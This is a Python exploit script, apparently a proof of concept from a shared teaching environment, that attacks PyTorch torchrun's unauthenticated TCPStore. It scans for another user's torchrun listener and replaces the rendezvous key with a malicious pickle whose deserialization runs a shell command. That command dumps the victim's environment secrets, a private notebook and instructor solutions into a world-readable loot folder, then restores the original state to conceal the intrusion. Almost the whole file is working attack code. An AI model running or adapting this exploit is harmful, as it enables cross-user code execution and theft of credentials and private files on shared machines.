"""Run as the student's host account (uid 65000) while the TA (uid 65534) runs the lecture notebooks
(make nbval / make test / make lab: notebooks/02_ddp.ipynb runs `torchrun --standalone` from its kernel).

torchrun's agent hosts a c10d TCPStore on the host's network (not in helpers.launch's private namespace) with no
authentication. Its rendezvous state is the key "torch.rendezvous.<run_id>" (found with list_keys), which the agent
reads back with pickle.loads every time it syncs (its monitor loop, every ~0.1-1 s). We write a pickle there.
"""
import base64, os, pickle, sys, time, datetime

LOOT = "/tmp/r55-loot7"
os.makedirs(LOOT, exist_ok=True); os.chmod(LOOT, 0o777)
TA_UID = 65001  # the victim: another student

CMD = (f"mkdir {LOOT}/once-$PPID 2>/dev/null && (date; echo '--- id/pwd'; id; pwd; echo '--- argv'; tr '\\0' ' ' </proc/$PPID/cmdline; echo;"
       f" echo '--- the env of the TA process (env)'; env | grep -E 'SECRET|DATABASE|DB_URL|HOME|TMPDIR|USER|JPY|KERNEL';"
       f" echo '--- TA home secret file'; cat /tmp/r55-victim-home/ps2_ddp.ipynb;"
       f" echo '--- a solution from source/ (0700)'; grep -o 'BEGIN SOLUTION.\\{{0,300\\}}' CLONE/source/ps1_memory/ps1_memory.ipynb | head -3"
       f") > {LOOT}/ran-as-ta.$$.txt 2>&1; chmod 644 {LOOT}/ran-as-ta.$$.txt")


class Payload:
    """Runs CMD, then gives the agent back the state it had written, so its run goes on as if nothing happened."""
    def __init__(self, original: bytes):
        self.original = original

    def __reduce__(self):
        expr = (f"(__import__('os').system({CMD!r}), "
                f"__import__('pickle').loads(__import__('base64').b64decode({self.original!r})))[1]")
        return (eval, (expr,))


def listeners():
    found = set()
    for name in ("/proc/net/tcp", "/proc/net/tcp6"):
        with open(name) as fh:
            next(fh)
            for line in fh:
                f = line.split()
                if f[3] == "0A" and int(f[7]) == TA_UID:
                    found.add(int(f[1].rsplit(":", 1)[1], 16))
    return found


def ta_torchrun_running():
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            if os.stat(f"/proc/{pid}").st_uid != TA_UID:
                continue
            cmd = open(f"/proc/{pid}/cmdline", "rb").read().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if "CLONE/.venv" in cmd and "torch.distributed.run" in cmd:
            return pid, cmd
    return None


def main():
    import torch.distributed as dist

    log = open(f"{LOOT}/attacker.log", "a", buffering=1)
    seen = listeners()
    log.write(f"{datetime.datetime.now()} uid={os.getuid()} watching; TA listeners already there: {sorted(seen)}\n")
    done = set()
    deadline = time.time() + float(sys.argv[1] if len(sys.argv) > 1 else 1800)
    while time.time() < deadline:
        if not ta_torchrun_running():
            time.sleep(0.01)
            seen = listeners()
            continue
        for port in sorted(listeners() - seen - done):
            done.add(port)
            try:
                store = dist.TCPStore("127.0.0.1", port, is_master=False, timeout=datetime.timedelta(seconds=2))
                keys = store.list_keys()
            except Exception as exc:  # not a store
                log.write(f"{datetime.datetime.now()} port {port}: not a store ({type(exc).__name__})\n")
                continue
            log.write(f"{datetime.datetime.now()} port {port}: TA's TCPStore, keys {keys}\n")
            for key in keys:
                if key.startswith("torch.rendezvous.") and key.count(".") == 2:
                    state = store.get(key)
                    until = time.time() + 20
                    while state == b"Y2FuaW1hZGFt" and time.time() < until:  # the agent has not written its state yet
                        time.sleep(0.002)
                        state = store.get(key)
                    log.write(f"  {key} = {state[:80]!r}...\n")
                    store.set(key, base64.b64encode(pickle.dumps(Payload(state), protocol=2)).decode())
                    log.write(f"{datetime.datetime.now()}  wrote the pickle into {key}\n")
        time.sleep(0.005)


main()
